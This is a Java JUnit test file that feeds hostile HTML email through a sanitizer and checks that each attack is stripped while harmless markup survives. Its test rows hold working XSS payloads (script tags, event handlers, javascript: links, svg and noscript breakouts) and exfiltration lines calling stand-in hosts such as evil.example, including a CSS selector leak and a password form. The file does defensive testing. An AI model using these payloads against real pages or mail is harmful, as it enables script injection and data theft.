package dev.tern.app.web.admin;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Hostile HTML mail through {@link SafeHtml#clean}: one row per attack, what must be gone, what must stay. */
class SafeHtmlTest {
    record Row(String attack, String html, String gone, String kept) {
        @Override
        public String toString() {
            return attack;
        }
    }

    static Stream<Row> rows() {
        return Stream.of(
                // Scripts, in every way a page can carry one
                new Row("script element", "<p>hi</p><script>parent.pwned=1</script>", "<script", "<p>hi</p>"),
                new Row("script in caps", "<SCRIPT SRC=//evil.example/x.js></SCRIPT><b>b</b>", "evil.example", "<b>b</b>"),
                new Row("onerror handler", "<img src=x onerror=\"alert(1)\">", "onerror", "<img"),
                new Row("onload on body", "<body onload=alert(1)><i>i</i></body>", "onload", "<i>i</i>"),
                new Row("onclick on a link", "<a href=\"https://ok.example/\" onclick=\"steal()\">x</a>", "onclick", "https://ok.example/"),
                new Row("javascript: link", "<a href=\"javascript:alert(1)\">x</a>", "javascript:", "<a"),
                new Row("javascript: with entities", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "ascript", "<a"),
                new Row("vbscript: link", "<a href=\"vbscript:msgbox(1)\">x</a>", "vbscript", "<a"),
                new Row("data:text/html link", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "data:", "<a"),
                new Row("iframe", "<iframe src=\"https://evil.example/\"></iframe><p>p</p>", "iframe", "<p>p</p>"),
                new Row("object and embed", "<object data=\"x.swf\"></object><embed src=\"x.swf\">t", "x.swf", "t"),
                new Row("svg with script", "<svg><script>alert(1)</script><circle r=\"5\"/></svg>ok", "svg", "ok"),
                new Row("svg onload", "<svg onload=\"alert(1)\"></svg>ok", "onload", "ok"),
                new Row("math with xlink", "<math><a xlink:href=\"javascript:alert(1)\">m</a></math>", "javascript", "m"),
                // Exfiltration and tracking: nothing remote may load when the message is opened
                new Row("remote image", "<img src=\"https://tracker.example/p.gif\" alt=\"pixel\">", "tracker.example", "alt=\"pixel\""),
                new Row("protocol-relative image", "<img src=\"//tracker.example/p.gif\">", "tracker.example", "<img"),
                new Row("style element exfil", "<style>input[value^=a]{background:url(https://evil.example/a)}</style>s",
                        "evil.example", "s"),
                new Row("style attribute url", "<div style=\"background:url(https://evil.example/b)\">d</div>", "evil.example", "d"),
                new Row("link stylesheet", "<link rel=stylesheet href=\"https://evil.example/c.css\">l", "evil.example", "l"),
                new Row("background attribute", "<table background=\"https://evil.example/t.png\"><tr><td>c</td></tr></table>",
                        "evil.example", "<td>c</td>"),
                new Row("base href", "<base href=\"https://evil.example/\"><a href=\"x\">x</a>", "evil.example", "x"),
                // Navigation and forms
                new Row("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">m", "refresh", "m"),
                new Row("form", "<form action=\"https://evil.example/\"><input name=p type=password></form>f", "form", "f"),
                new Row("button formaction", "<button formaction=\"https://evil.example/\">b</button>", "formaction", "b"),
                // Markup that tries to break out of the parser
                new Row("unclosed comment", "<!--<script>alert(1)</script>-->c", "<script", "c"),
                new Row("noscript mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "onerror", ""),
                new Row("textarea breakout", "<textarea></textarea><script>alert(1)</script>", "<script", ""),
                // What a newsletter needs still shows
                new Row("inline data image", "<img src=\"data:image/png;base64,iVBORw0KGgo=\">", "onerror", "src=\"data:image/png"),
                new Row("safe link", "<a href=\"https://shop.example/\">shop</a>", "onclick", "rel=\"noopener noreferrer\""),
                new Row("table", "<table><tr><th>h</th><td>d</td></tr></table>", "<script", "<th>h</th>"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("rows")
    void removesTheAttackAndKeepsTheText(Row row) {
        String clean = SafeHtml.clean(row.html());
        String body = clean.substring(clean.indexOf("<body>"));
        assertThat(body.toLowerCase(Locale.ROOT)).as(clean).doesNotContain(row.gone().toLowerCase(Locale.ROOT));
        assertThat(body).as(clean).contains(row.kept());
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("rows")
    void leavesNoScriptNoHandlerAndNoRemoteUrl(Row row) {
        String body = SafeHtml.clean(row.html()).toLowerCase(Locale.ROOT);
        assertThat(body).doesNotContain("<script", "<style", "<iframe", "<form", "<meta http-equiv", "<svg", "javascript:")
                .doesNotContainPattern("\\son[a-z]+=")
                .doesNotContainPattern("src=\"(https?:)?//");
    }

    @org.junit.jupiter.api.Test
    void countsTheRemoteImagesItBlocks() {
        assertThat(SafeHtml.remoteImages("<img src=\"https://a.example/1\"><img src=//b.example/2><img src=\"data:x\">"))
                .isEqualTo(2);
    }
}
